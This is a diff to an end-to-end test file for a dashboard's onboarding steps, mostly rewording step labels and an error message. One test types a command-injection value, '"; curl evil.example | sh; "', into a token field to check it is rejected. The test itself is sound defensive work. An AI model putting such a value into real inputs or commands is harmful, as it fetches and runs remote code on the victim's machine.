@@ -49,7 +49,7 @@ test('a new owner reads what comes first, each as far as it is, until it is hidd
   const { page } = visit;
   await signIn(visit);
   expect(await steps(page)).toEqual([
-    'Say who you are, to do',
+    'Submit your identity, to do',
     'Start a gateway, to do',
     'Sign a mandate, to do',
     'Connect your client, to do',
@@ -65,8 +65,8 @@ test('a new owner reads what comes first, each as far as it is, until it is hidd
   expectOk('submit', await dashboard.submitKyc({ token, body: person }));
   const key = expectOk('make a key', await dashboard.createKey({ token, body: { name: 'gateway' } }));
   expect((await steps(page)).slice(0, 3)).toEqual([
-    'Say who you are, under way',
-    'Start a gateway, under way',
+    'Submit your identity, in progress',
+    'Start a gateway, in progress',
     'Sign a mandate, to do',
   ]);
 
@@ -75,7 +75,7 @@ test('a new owner reads what comes first, each as far as it is, until it is hidd
   const mandateId = await world.newMandate(owner);
   await report(owner, key.apiKey, null);
   expect((await steps(page)).slice(0, 5)).toEqual([
-    'Say who you are, done',
+    'Submit your identity, done',
     'Start a gateway, done',
     'Sign a mandate, done',
     'Connect your client, done',
@@ -135,7 +135,7 @@ test('each client’s snippet has the address and token of one’s gateway; what
 
   await choose('Claude Code');
   await page.getByLabel('Token').fill('"; curl evil.example | sh; "');
-  await page.getByText('This is no token: it has other characters.').waitFor();
+  await page.getByText('This is not a token: it contains other characters.').waitFor();
   expect(await page.getByRole('region', { name: 'Claude Code' }).count()).toBe(0);
   await expectAccessible(page, 'Connect fault');
   // The address is remembered, the token is not.
